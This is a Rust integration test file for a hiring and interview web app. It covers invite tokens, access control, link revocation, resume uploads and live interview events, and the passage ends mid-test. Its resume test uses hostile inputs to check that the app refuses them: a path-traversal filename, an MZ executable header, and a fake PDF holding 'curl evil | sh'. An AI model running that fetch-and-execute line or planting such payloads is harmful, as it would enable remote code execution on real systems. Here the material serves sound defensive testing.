//! The hiring side over the real API: jobs and who may see them, invite links and exactly what
//! a token opens, resumes (sniffed, stored, tailoring the interview), emails through a real
//! SMTP server, the job's live event stream, and a revoked link closing an open interview.

use std::io::Write;
use std::time::Duration;

use awc::http::StatusCode;
use futures_util::StreamExt;
use serde_json::{json, Value};

use crate::helpers::{spawn_app, spawn_app_with, spawn_live_app, Backend, Reply, TestApp};
use crate::live::{events_of, Live, Next};
use crate::on_both_backends;

impl TestApp {
    /// Registers a user, makes them a recruiter and logs them in; returns the session cookie.
    pub async fn signed_in_recruiter(&self) -> String {
        let (_, cookie) = self.signed_in_user().await;
        let me = self.get("/api/v1/auth/me", Some(&cookie)).await;
        let id = me.body["id"].as_str().expect("id");
        let mut conn = self.pool().get().await.expect("connection");
        viva::db::users::set_role(&mut conn, &id.into(), viva::domain::Role::Recruiter)
            .await
            .expect("promote");
        cookie
    }

    /// A GET as a candidate, with their invite token.
    pub(crate) async fn get_with_token(&self, path: &str, token: &str) -> Reply {
        let req = Self::client()
            .get(self.url(path))
            .insert_header(("x-interview-token", token));
        self.send(req, None).await
    }

    pub(crate) async fn put_file(
        &self,
        path: &str,
        name: &str,
        bytes: Vec<u8>,
        auth: (&str, &str),
    ) -> Reply {
        let req = Self::client()
            .put(self.url(path))
            .insert_header(("x-filename", name))
            .insert_header((auth.0, auth.1));
        self.send(req, Some(bytes)).await
    }
}

pub(crate) fn job_body(title: &str) -> Value {
    json!({
        "title": title,
        "description": "Build and run our payment APIs.",
        "location": "Remote (EU)",
        "skills": [],
        "interview_type": "backend",
        "difficulty": "medium",
        "question_count": 2,
        "time_limit_minutes": 30,
    })
}

pub(crate) async fn new_job(app: &TestApp, cookie: &str, body: Value) -> Value {
    let r = app.post_json("/api/v1/jobs", &body, Some(cookie)).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    r.body
}

/// Adds a candidate; returns the creation answer and the token of its link.
pub(crate) async fn invite(
    app: &TestApp,
    cookie: &str,
    job_id: &str,
    body: Value,
) -> (Value, String) {
    let r = app
        .post_json(
            &format!("/api/v1/jobs/{job_id}/candidates"),
            &body,
            Some(cookie),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let url = r.body["invite_url"].as_str().expect("invite_url");
    let token = url.rsplit('/').next().expect("a token").to_owned();
    (r.body, token)
}

pub(crate) fn person(name: &str) -> Value {
    json!({"name": name, "email": format!("{}@example.com", name.to_lowercase().replace(' ', "."))})
}

on_both_backends!(
    jobs_belong_to_their_recruiter,
    a_token_opens_its_own_interview_and_nothing_else,
    revoked_and_expired_links_stop_working,
    adding_candidates_counts_against_the_hourly_interview_limit,
);

async fn jobs_belong_to_their_recruiter(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let y = app.signed_in_recruiter().await;
    let (_, candidate) = app.signed_in_user().await;
    let job = new_job(&app, &x, job_body("Backend engineer")).await;
    let id = job["id"].as_str().expect("id");
    assert_eq!(
        (job["status"].as_str(), job["show_scores"].as_bool()),
        (Some("open"), Some(false))
    );

    // Bad input names the field.
    for (change, field) in [
        (json!({"title": ""}), "title"),
        (json!({"interview_type": "cooking"}), "interview_type"),
        (json!({"question_count": 0}), "question_count"),
        (json!({"skills": ["css"]}), "skills"),
    ] {
        let mut body = job_body("Backend engineer");
        for (k, v) in change.as_object().expect("object") {
            body[k] = v.clone();
        }
        let r = app.post_json("/api/v1/jobs", &body, Some(&x)).await;
        assert_eq!(
            (r.status, r.error_code()),
            (StatusCode::BAD_REQUEST, "invalid_input"),
            "{field}"
        );
        assert!(
            r.body["error"]["message"]
                .as_str()
                .is_some_and(|m| m.contains(field)),
            "{:?}",
            r.body
        );
    }
    // Candidates are not recruiters; nobody signed in is nobody.
    let r = app
        .post_json("/api/v1/jobs", &job_body("Nope"), Some(&candidate))
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(
        app.get("/api/v1/jobs", None).await.status,
        StatusCode::UNAUTHORIZED
    );

    // Another recruiter cannot tell the job exists.
    let path = format!("/api/v1/jobs/{id}");
    for who in [&y] {
        assert_eq!(
            app.get(&path, Some(who)).await.status,
            StatusCode::NOT_FOUND
        );
        let r = app
            .patch_json(&path, &json!({"title": "Mine now"}), Some(who))
            .await;
        assert_eq!(r.status, StatusCode::NOT_FOUND);
        let r = app.get(&format!("{path}/candidates"), Some(who)).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND);
        let r = app
            .post_json(&format!("{path}/candidates"), &person("Ann Lee"), Some(who))
            .await;
        assert_eq!(r.status, StatusCode::NOT_FOUND);
        let r = app.get(&format!("{path}/candidates.csv"), Some(who)).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND);
    }
    assert_eq!(app.get("/api/v1/jobs", Some(&y)).await.body, json!([]));
    let mine = app.get("/api/v1/jobs", Some(&x)).await;
    assert_eq!(mine.body.as_array().map(Vec::len), Some(1));

    // The owner edits and closes it; a closed job takes no candidates.
    let r = app
        .patch_json(
            &path,
            &json!({"title": "Senior backend engineer", "show_scores": true}),
            Some(&x),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["title"], "Senior backend engineer");
    assert_eq!(r.body["show_scores"], true);
    let r = app
        .patch_json(&path, &json!({"status": "closed"}), Some(&x))
        .await;
    assert_eq!(r.body["status"], "closed");
    assert!(r.body["closed_at"].is_string());
    let r = app
        .post_json(&format!("{path}/candidates"), &person("Ann Lee"), Some(&x))
        .await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::CONFLICT, "job_closed")
    );
    let r = app
        .patch_json(&path, &json!({"status": "maybe"}), Some(&x))
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);

    // An admin sees and manages everyone's jobs.
    let admin = app.signed_in_admin().await;
    assert_eq!(app.get(&path, Some(&admin)).await.status, StatusCode::OK);
}

async fn a_token_opens_its_own_interview_and_nothing_else(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let y = app.signed_in_recruiter().await;
    let job = new_job(&app, &x, job_body("Backend engineer")).await;
    let job_id = job["id"].as_str().expect("id");
    let (a, token_a) = invite(&app, &x, job_id, person("Ann Lee")).await;
    let (b, _) = invite(&app, &x, job_id, person("Bo Chen")).await;
    let a_id = a["candidate"]["interview_id"]
        .as_str()
        .expect("interview id");
    let b_id = b["candidate"]["interview_id"]
        .as_str()
        .expect("interview id");
    assert_eq!(
        a["email_status"], "not_configured",
        "no SMTP server in this test"
    );
    assert!(
        token_a.len() >= 32
            && token_a
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || "-_".contains(c))
    );
    assert!(a["invite_url"]
        .as_str()
        .is_some_and(|u| u.starts_with(&app.url("/i/"))));

    // Only the token's hash is stored.
    let mut conn = app.pool().get().await.expect("connection");
    let invites = viva::db::invites::of_interview(&mut conn, &a_id.into())
        .await
        .expect("invites");
    assert_eq!(invites.len(), 1);
    assert_ne!(invites[0].token_hash, token_a);
    assert_eq!(
        invites[0].token_hash,
        viva::hiring::invites::token_hash(&token_a)
    );
    drop(conn);

    // The link's page, and the candidate's view of their interview.
    let page = app.get(&format!("/i/{token_a}"), None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(page.header("referrer-policy"), Some("no-referrer"));
    let r = app.get_with_token("/api/v1/invite", &token_a).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["candidate_name"], "Ann Lee");
    assert_eq!(r.body["job_title"], "Backend engineer");
    assert_eq!(r.body["interview"]["id"], a_id);
    assert_eq!(r.body["interview"]["mode"], "hiring");
    assert_eq!(r.body["show_scores"], false);
    assert_eq!(
        r.body["interview"]["questions"],
        json!([]),
        "no questions before they are asked"
    );
    let r = app.get_with_token("/api/v1/invite/report", &token_a).await;
    assert_eq!(
        r.status,
        StatusCode::NOT_FOUND,
        "the recruiter keeps scores private"
    );
    let r = app
        .get(&format!("/api/v1/interviews/{a_id}/invites"), Some(&x))
        .await;
    assert_eq!(
        r.body[0]["access_count"], 1,
        "opening the page counts: {:?}",
        r.body
    );
    assert!(r.body[0]["last_access_at"].is_string());

    // Token A reaches nothing of B's, and nothing behind a session.
    for path in [
        format!("/api/v1/interviews/{b_id}"),
        format!("/api/v1/interviews/{b_id}/report"),
        format!("/api/v1/interviews/{b_id}/report.pdf"),
        format!("/api/v1/interviews/{b_id}/resume"),
        format!("/api/v1/interviews/{a_id}"),
        format!("/api/v1/interviews/{a_id}/invites"),
        format!("/api/v1/jobs/{job_id}/candidates"),
        "/api/v1/interviews".to_owned(),
    ] {
        let r = app.get_with_token(&path, &token_a).await;
        assert_eq!(r.status, StatusCode::UNAUTHORIZED, "{path}");
    }
    let r = app
        .get(
            &format!("/api/v1/interviews/{b_id}/ws?token={token_a}"),
            None,
        )
        .await;
    assert_eq!(
        r.status,
        StatusCode::NOT_FOUND,
        "B's WebSocket with A's token"
    );
    let r = app
        .get(&format!("/api/v1/interviews/{b_id}/ws"), None)
        .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    // Unknown tokens: a clear page and 401.
    let unknown = viva::hiring::invites::new_token();
    let r = app.get_with_token("/api/v1/invite", &unknown).await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::UNAUTHORIZED, "invite_invalid")
    );
    let page = app.get(&format!("/i/{unknown}"), None).await;
    assert_eq!(page.status, StatusCode::UNAUTHORIZED);
    let html = String::from_utf8_lossy(&page.raw);
    assert!(html.contains("This link does not work"), "{html}");
    assert_eq!(
        app.get("/api/v1/invite", None).await.status,
        StatusCode::UNAUTHORIZED
    );

    // Recruiter Y sees none of it.
    for path in [
        format!("/api/v1/interviews/{a_id}/invites"),
        format!("/api/v1/interviews/{a_id}/resume"),
        format!("/api/v1/interviews/{a_id}"),
        format!("/api/v1/interviews/{a_id}/report"),
    ] {
        assert_eq!(
            app.get(&path, Some(&y)).await.status,
            StatusCode::NOT_FOUND,
            "{path}"
        );
    }
    let r = app
        .delete(&format!("/api/v1/interviews/{a_id}/invites"), Some(&y))
        .await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);

    // The recruiter's list and CSV.
    let r = app
        .get(&format!("/api/v1/jobs/{job_id}/candidates"), Some(&x))
        .await;
    let names: Vec<&str> = r
        .body
        .as_array()
        .expect("list")
        .iter()
        .filter_map(|c| c["name"].as_str())
        .collect();
    assert_eq!(names, ["Ann Lee", "Bo Chen"]);
    assert_eq!(r.body[0]["invite"]["state"], "active");
    let csv = app
        .get(&format!("/api/v1/jobs/{job_id}/candidates.csv"), Some(&x))
        .await;
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    let text = String::from_utf8_lossy(&csv.raw);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "name,email,status,score,invited_at,started_at,completed_at,interview_id"
    );
    assert!(
        lines[1].starts_with("Ann Lee,ann.lee@example.com,pending,"),
        "{text}"
    );
    assert_eq!(lines.len(), 3, "{text}");
}

async fn revoked_and_expired_links_stop_working(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let job = new_job(&app, &x, job_body("Backend engineer")).await;
    let job_id = job["id"].as_str().expect("id");
    let (a, first) = invite(&app, &x, job_id, person("Ann Lee")).await;
    let id = a["candidate"]["interview_id"]
        .as_str()
        .expect("interview id");
    let invites = format!("/api/v1/interviews/{id}/invites");

    // A second link; revoking the first leaves the second working.
    let r = app.post_json(&invites, &json!({}), Some(&x)).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let second = r.body["invite_url"]
        .as_str()
        .and_then(|u| u.rsplit('/').next())
        .expect("token")
        .to_owned();
    let list = app.get(&invites, Some(&x)).await.body;
    let first_id = list[0]["id"].as_str().expect("invite id");
    let r = app.delete(&format!("{invites}/{first_id}"), Some(&x)).await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    let r = app.delete(&format!("{invites}/{first_id}"), Some(&x)).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "already revoked");
    let r = app.get_with_token("/api/v1/invite", &first).await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::UNAUTHORIZED, "invite_invalid"),
        "same answer as unknown"
    );
    assert_eq!(
        app.get_with_token("/api/v1/invite", &second).await.status,
        StatusCode::OK
    );
    let list = app.get(&invites, Some(&x)).await.body;
    assert_eq!(
        (list[0]["state"].as_str(), list[1]["state"].as_str()),
        (Some("revoked"), Some("active"))
    );

    // Revoke all.
    assert_eq!(
        app.delete(&invites, Some(&x)).await.status,
        StatusCode::NO_CONTENT
    );
    assert_eq!(
        app.get_with_token("/api/v1/invite", &second).await.status,
        StatusCode::UNAUTHORIZED
    );

    // An expired link: 410 and a page that says so; housekeeping then expires the interview,
    // and a new link brings it back.
    let r = app.post_json(&invites, &json!({}), Some(&x)).await;
    let third = r.body["invite_url"]
        .as_str()
        .and_then(|u| u.rsplit('/').next())
        .expect("token")
        .to_owned();
    let mut conn = app.pool().get().await.expect("connection");
    backdate_invites(&mut conn, id).await;
    let r = app.get_with_token("/api/v1/invite", &third).await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::GONE, "invite_expired")
    );
    let page = app.get(&format!("/i/{third}"), None).await;
    assert_eq!(page.status, StatusCode::GONE);
    assert!(String::from_utf8_lossy(&page.raw).contains("This link has expired"));
    assert_eq!(
        viva::hiring::invites::expire(&app.pool())
            .await
            .expect("expire"),
        1
    );
    let interview = viva::db::interviews::find(&mut conn, &id.into())
        .await
        .expect("find")
        .expect("row");
    assert_eq!(interview.status, viva::domain::InterviewStatus::Expired);
    let r = app.post_json(&invites, &json!({}), Some(&x)).await;
    assert_eq!(r.status, StatusCode::CREATED);
    let interview = viva::db::interviews::find(&mut conn, &id.into())
        .await
        .expect("find")
        .expect("row");
    assert_eq!(interview.status, viva::domain::InterviewStatus::Pending);
}

/// Moves the expiry of every invite of the interview a day into the past.
pub(crate) async fn backdate_invites(conn: &mut viva::db::DbConn, interview_id: &str) {
    use diesel::prelude::*;
    use diesel_async::RunQueryDsl;
    use viva::db::schema::invites;
    let past = viva::db::now() - chrono::Duration::days(1);
    let result: Result<usize, diesel::result::Error> = viva::db_run!(conn, {
        diesel::update(invites::table.filter(invites::interview_id.eq(interview_id)))
            .set(invites::expires_at.eq(past))
            .execute(conn)
            .await
    });
    result.expect("backdate the invites");
}

#[actix_web::test]
async fn resumes_are_sniffed_stored_and_tailor_the_interview() {
    let Some(app) = spawn_app(Backend::Sqlite).await else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let job = new_job(&app, &x, job_body("Backend engineer")).await;
    let job_id = job["id"].as_str().expect("id");
    let resume =
        "Ann Lee\nBackend engineer\nLed the Payments Gateway rewrite, cutting latency by 40%.\n";
    let b64 =
        |bytes: &[u8]| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, bytes);
    let mut body = person("Ann Lee");
    body["resume"] =
        json!({"filename": "../../etc/Ann CV.txt", "content_base64": b64(resume.as_bytes())});
    let (created, token) = invite(&app, &x, job_id, body).await;
    let id = created["candidate"]["interview_id"]
        .as_str()
        .expect("interview id");
    assert_eq!(created["candidate"]["resume"]["filename"], "Ann CV.txt");
    assert_eq!(
        created["candidate"]["resume"]["highlights"][0],
        "the Payments Gateway rewrite"
    );

    // The first question is tailored to what the resume names.
    let interview = app
        .get(&format!("/api/v1/interviews/{id}"), Some(&x))
        .await
        .body;
    let first = interview["questions"][0]["text"]
        .as_str()
        .expect("question");
    assert!(
        first.starts_with("Your resume mentions the Payments Gateway rewrite"),
        "{first}"
    );

    // Download: the same bytes, the sniffed type, a clean name; stored by id, not by name.
    let r = app
        .get(&format!("/api/v1/interviews/{id}/resume"), Some(&x))
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(r.raw, resume.as_bytes());
    assert_eq!(r.header("content-type"), Some("text/plain; charset=utf-8"));
    assert!(
        r.header("content-disposition")
            .is_some_and(|d| d.contains("Ann CV.txt")),
        "{:?}",
        r.headers
    );
    let stored: Vec<_> = std::fs::read_dir(app.data_dir.path().join("files"))
        .expect("files dir")
        .collect();
    assert_eq!(stored.len(), 1);
    let stored_name = stored[0].as_ref().expect("entry").file_name();
    assert!(
        uuid::Uuid::parse_str(&stored_name.to_string_lossy()).is_ok(),
        "{stored_name:?}"
    );
    // The candidate reads their own resume with their token.
    let r = app.get_with_token("/api/v1/invite/resume", &token).await;
    assert_eq!(r.raw, resume.as_bytes());

    // A ".pdf" that is really a script, an executable, an oversized file: refused, nothing made.
    let before = app
        .get(&format!("/api/v1/jobs/{job_id}/candidates"), Some(&x))
        .await
        .body;
    for (name, bytes) in [
        ("cv.pdf", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
        ("cv.docx", b"MZ\x90\x00\x03\x00\x00\x00".to_vec()),
    ] {
        let mut body = person("Eve Doe");
        body["resume"] = json!({"filename": name, "content_base64": b64(&bytes)});
        let r = app
            .post_json(
                &format!("/api/v1/jobs/{job_id}/candidates"),
                &body,
                Some(&x),
            )
            .await;
        assert_eq!(
            (r.status, r.error_code()),
            (StatusCode::UNSUPPORTED_MEDIA_TYPE, "unsupported_file_type"),
            "{name}"
        );
    }
    let after = app
        .get(&format!("/api/v1/jobs/{job_id}/candidates"), Some(&x))
        .await
        .body;
    assert_eq!(before, after, "a refused resume creates no candidate");
    let huge = vec![b'a'; viva::resume::MAX_BYTES + 1];
    let r = app
        .put_file(
            &format!("/api/v1/interviews/{id}/resume"),
            "big.txt",
            huge,
            ("cookie", &x),
        )
        .await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large")
    );

    // A real PDF (written by viva's own report writer) and a Word document: text read, the
    // interview re-tailored while it has not started. The candidate may upload their own.
    let report = viva::interview::report::build(&[], &[], &Default::default());
    let pdf = viva::interview::report::pdf::render(&viva::interview::report::pdf::ReportPdf {
        title: "Ann Lee",
        subtitle: "Resume",
        report: &report,
        transcript: vec![viva::interview::report::pdf::TranscriptEntry {
            speaker: "Experience",
            text: "Built Orbit, an internal deploy tool used by 200 engineers.",
            feedback: None,
        }],
    });
    let r = app
        .put_file(
            &format!("/api/v1/interviews/{id}/resume"),
            "cv.pdf",
            pdf,
            ("cookie", &x),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    assert_eq!(r.body["content_type"], "application/pdf");
    assert_eq!(r.body["highlights"][0], "Orbit", "{:?}", r.body);
    let interview = app
        .get(&format!("/api/v1/interviews/{id}"), Some(&x))
        .await
        .body;
    let first = interview["questions"][0]["text"]
        .as_str()
        .expect("question");
    assert!(first.starts_with("Your resume mentions Orbit;"), "{first}");

    let docx = word_document("Designed the Kafka ingestion pipeline for Acme.");
    let r = app
        .put_file(
            "/api/v1/invite/resume",
            "My CV.docx",
            docx,
            ("x-interview-token", &token),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    assert_eq!(r.body["filename"], "My CV.docx");
    assert_eq!(
        r.body["highlights"][0],
        "the Kafka ingestion pipeline for Acme"
    );
    let r = app
        .put_file(
            "/api/v1/invite/resume",
            "x.txt",
            b"hi".to_vec(),
            ("x-interview-token", "nope"),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    // Each upload replaced the one before (its bytes deleted); deleting the interview deletes
    // the last one from disk too.
    let files = app.data_dir.path().join("files");
    assert_eq!(std::fs::read_dir(&files).expect("files dir").count(), 1);
    let r = app
        .delete(&format!("/api/v1/interviews/{id}"), Some(&x))
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    assert_eq!(std::fs::read_dir(&files).expect("files dir").count(), 0);
}

fn word_document(paragraph: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(&mut bytes));
        let options = zip::write::SimpleFileOptions::default();
        zip.start_file("[Content_Types].xml", options)
            .expect("entry");
        zip.write_all(b"<Types/>").expect("write");
        zip.start_file("word/document.xml", options).expect("entry");
        let xml = format!("<w:document><w:body><w:p><w:r><w:t>{paragraph}</w:t></w:r></w:p></w:body></w:document>");
        zip.write_all(xml.as_bytes()).expect("write");
        zip.finish().expect("finish");
    }
    bytes
}

#[actix_web::test]
async fn the_invite_email_carries_a_working_link() {
    let Some(smtp) = crate::support::smtp_sink() else {
        return;
    };
    let port = smtp.port;
    let Some(app) = spawn_app_with(Backend::Sqlite, move |s| {
        s.smtp_host = Some("127.0.0.1".into());
        s.smtp_port = port;
        s.smtp_tls = viva::config::SmtpTls::None;
        s.smtp_from = "Hiring at Acme <jobs@acme.example>".into();
    })
    .await
    else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let job = new_job(&app, &x, job_body("Backend engineer")).await;
    let (created, _) = invite(&app, &x, job["id"].as_str().expect("id"), person("Ann Lee")).await;
    assert_eq!(created["email_status"], "sent", "{created}");
    let messages = smtp.wait_for(1);
    assert_eq!(messages.len(), 1);
    let message = &messages[0];
    assert!(message.contains("To: ann.lee@example.com"), "{message}");
    assert!(
        message.contains("Subject: Your interview for Backend engineer"),
        "{message}"
    );
    assert!(message.contains("jobs@acme.example"), "{message}");
    // The link in the email (quoted-printable may wrap it: undo soft breaks first).
    let body = message
        .replace("=\r\n", "")
        .replace("=\n", "")
        .replace("=3D", "=");
    let url = created["invite_url"].as_str().expect("url");
    assert!(body.contains(url), "the email has the link {url}:\n{body}");
    let path = url
        .strip_prefix(&app.url(""))
        .expect("a link to this server");
    assert_eq!(
        app.get(path, None).await.status,
        StatusCode::OK,
        "the emailed link opens"
    );
    // Recorded with its status.
    let id = created["candidate"]["interview_id"].as_str().expect("id");
    let mut conn = app.pool().get().await.expect("connection");
    let sent = viva::db::emails::of_interview(&mut conn, &id.into())
        .await
        .expect("emails");
    assert_eq!(sent.len(), 1);
    assert_eq!(
        (sent[0].kind.as_str(), sent[0].status.as_str()),
        ("invite", "sent")
    );

    // A server that refuses: recorded as failed, the candidate still created.
    drop(smtp);
    let (created, _) = invite(&app, &x, job["id"].as_str().expect("id"), person("Bo Chen")).await;
    assert_eq!(created["email_status"], "failed");
}

/// The live side with the real models: the recruiter's event stream follows a candidate who
/// opens the link, starts and answers; the candidate sees no scores; revoking the link closes
/// the open interview at once; a finished interview's link is used up; an expiring link closes
/// its connection.
#[actix_web::test]
async fn the_job_page_follows_a_live_interview_and_revoking_closes_it() {
    let Some(app) =
        spawn_live_app(Backend::Sqlite, |s| s.invite_ttl = Duration::from_secs(3)).await
    else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let mut body = job_body("Backend engineer");
    body["question_count"] = json!(1);
    let job = new_job(&app, &x, body).await;
    let job_id = job["id"].as_str().expect("id");
    let (a, _) = invite(&app, &x, job_id, person("Ann Lee")).await;
    let id = a["candidate"]["interview_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let token = hour_long_link(&app, &id).await;

    let mut events = EventStream::open(&app, &format!("/api/v1/jobs/{job_id}/events"), &x).await;
    let (kind, snapshot) = events.next().await;
    assert_eq!(kind, "snapshot");
    assert_eq!(snapshot[0]["interview_id"], id.as_str());

    let mut live = Live::connect_with_token(&app, &id, &token).await;
    let (ready, _) = live.until("ready").await;
    assert!(ready["interview"]["score"].is_null() && ready["interview"]["feedback"] == json!([]));
    assert_eq!(ready["interview"]["questions"], json!([]), "not asked yet");
    assert_eq!(
        events.until_activity("opened").await["candidate"]["status"],
        "pending"
    );
    live.start().await;
    assert_eq!(
        events.until_activity("started").await["candidate"]["status"],
        "in_progress"
    );
    live.send_json(json!({"type": "text", "text": "I don't know."}))
        .await;
    assert_eq!(
        events.until_activity("answered").await["candidate"]["name"],
        "Ann Lee"
    );
    let (_, before) = live.until("ended").await;
    assert!(
        events_of(&before, "feedback").is_empty(),
        "scores stay with the recruiter"
    );
    assert!(events_of(&before, "report").is_empty());
    let ended = events.until_activity("ended").await;
    assert_eq!(ended["candidate"]["status"], "completed");
    assert!(ended["candidate"]["score"].is_number(), "{ended}");
    // Used up.
    let r = app.get_with_token("/api/v1/invite", &token).await;
    assert_eq!(
        (r.status, r.error_code()),
        (StatusCode::GONE, "interview_over")
    );
    let r = app
        .get(&format!("/api/v1/interviews/{id}/report"), Some(&x))
        .await;
    assert_eq!(r.status, StatusCode::OK, "the recruiter reads the report");
    let admin = app.signed_in_admin().await;
    for path in [
        format!("/api/v1/interviews/{id}"),
        format!("/api/v1/interviews/{id}/report"),
    ] {
        let r = app.get(&path, Some(&admin)).await;
        assert_eq!(
            r.status,
            StatusCode::OK,
            "an admin reads hiring interviews: {path}"
        );
    }

    // A second candidate connected when the recruiter revokes: closed at once.
    let (b, _) = invite(&app, &x, job_id, person("Bo Chen")).await;
    let b_id = b["candidate"]["interview_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let link = hour_long_link(&app, &b_id).await;
    let mut live = Live::connect_with_token(&app, &b_id, &link).await;
    live.until("ready").await;
    let r = app
        .delete(&format!("/api/v1/interviews/{b_id}/invites"), Some(&x))
        .await;
    assert_eq!(r.status, StatusCode::NO_CONTENT);
    let (error, _) = live.until("error").await;
    assert_eq!(error["code"], "invite_revoked");
    match live.next().await {
        Next::Closed(code) => assert_eq!(code, Some(4001)),
        Next::Event(e) => panic!("expected the close, got {e}"),
    }

    // A link that expires while its interview is open closes it (the default here: 3 s).
    let (c, token_c) = invite(&app, &x, job_id, person("Cy Park")).await;
    let c_id = c["candidate"]["interview_id"].as_str().expect("id");
    let mut live = Live::connect_with_token(&app, c_id, &token_c).await;
    live.until("ready").await;
    let (error, _) = live.until("error").await;
    assert_eq!(error["code"], "invite_expired");

    // With a resume: an answer about what it names gets the follow-up about it.
    let mut body = person("Di Ross");
    let resume = "Di Ross\nBuilt Orbit, an internal deploy tool used by 200 engineers.\n";
    body["resume"] = json!({"filename": "cv.txt",
        "content_base64": base64::Engine::encode(&base64::engine::general_purpose::STANDARD, resume)});
    let (d, _) = invite(&app, &x, job_id, body).await;
    let d_id = d["candidate"]["interview_id"]
        .as_str()
        .expect("id")
        .to_owned();
    let link = hour_long_link(&app, &d_id).await;
    let mut live = Live::connect_with_token(&app, &d_id, &link).await;
    live.until("ready").await;
    live.start().await;
    live.send_json(
        json!({"type": "text", "text": "On Orbit I designed the service API and the \
        database schema, added a cache in front of the database, and wrote tests for the \
        deployment pipeline so each release could be rolled back safely."}),
    )
    .await;
    let reply = live.until_listening().await;
    assert!(
        reply["text"]
            .as_str()
            .is_some_and(|t| t.contains("Your resume mentions Orbit.")),
        "{reply}"
    );
}

/// A new link to the interview that works for an hour (the live test's default lasts 3 s).
async fn hour_long_link(app: &TestApp, interview_id: &str) -> String {
    let mut conn = app.pool().get().await.expect("connection");
    viva::hiring::invites::issue(&mut conn, &interview_id.into(), Duration::from_secs(3600))
        .await
        .expect("issue")
        .token
}

/// A server-sent event stream read with a real HTTP client.
type Body = std::pin::Pin<
    Box<dyn futures_util::Stream<Item = Result<actix_web::web::Bytes, awc::error::PayloadError>>>,
>;

pub(crate) struct EventStream {
    response: Body,
    buffer: String,
}

impl EventStream {
    pub(crate) async fn open(app: &TestApp, path: &str, cookie: &str) -> Self {
        let response = awc::Client::builder()
            .disable_timeout()
            .finish()
            .get(app.url(path))
            .insert_header(("cookie", cookie))
            .send()
            .await
            .expect("the event stream opens");
        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(
            response
                .headers()
                .get("content-type")
                .and_then(|v| v.to_str().ok()),
            Some("text/event-stream")
        );
        Self {
            response: Box::pin(response),
            buffer: String::new(),
        }
    }

    /// The next event (name, data), skipping keep-alive comments.
    pub(crate) async fn next(&mut self) -> (String, Value) {
        loop {
            if let Some(end) = self.buffer.find("\n\n") {
                let block: String = self.buffer.drain(..end + 2).collect();
                let mut name = String::new();
                let mut data = String::new();
                for line in block.lines() {
                    if let Some(v) = line.strip_prefix("event: ") {
                        name = v.to_owned();
                    } else if let Some(v) = line.strip_prefix("data: ") {
                        data.push_str(v);
                    }
                }
                if name.is_empty() {
                    continue;
                }
                return (
                    name,
                    serde_json::from_str(&data).expect("event data is JSON"),
                );
            }
            let chunk = actix_web::rt::time::timeout(Duration::from_secs(90), self.response.next())
                .await
                .expect("an event within 90 s")
                .expect("the stream stays open")
                .expect("read the stream");
            self.buffer.push_str(&String::from_utf8_lossy(&chunk));
        }
    }

    /// Reads on until the server ends the stream (failing after a generous wait).
    pub(crate) async fn ends(&mut self) {
        // One deadline for the whole wait: keep-alive comments must not keep the test going.
        let deadline = tokio::time::Instant::now() + Duration::from_secs(90);
        loop {
            let chunk = tokio::time::timeout_at(deadline, self.response.next())
                .await
                .unwrap_or_else(|_| panic!("the stream is still open after 90 s"));
            match chunk {
                None => return,
                Some(Ok(bytes)) => self.buffer.push_str(&String::from_utf8_lossy(&bytes)),
                // A chunked body cut off is ended too, only less politely.
                Some(Err(_)) => return,
            }
        }
    }

    pub(crate) async fn until_activity(&mut self, activity: &str) -> Value {
        loop {
            let (name, data) = self.next().await;
            if name == "candidate" && data["activity"] == activity {
                return data;
            }
        }
    }
}

async fn adding_candidates_counts_against_the_hourly_interview_limit(backend: Backend) {
    let Some(app) = spawn_app_with(backend, |s| s.max_interviews_per_hour = 2).await else {
        return;
    };
    let x = app.signed_in_recruiter().await;
    let job = new_job(&app, &x, job_body("Backend engineer")).await;
    let job_id = job["id"].as_str().expect("id");
    invite(&app, &x, job_id, person("Ann Lee")).await;
    invite(&app, &x, job_id, person("Bo Chen")).await;
    let r = app
        .post_json(
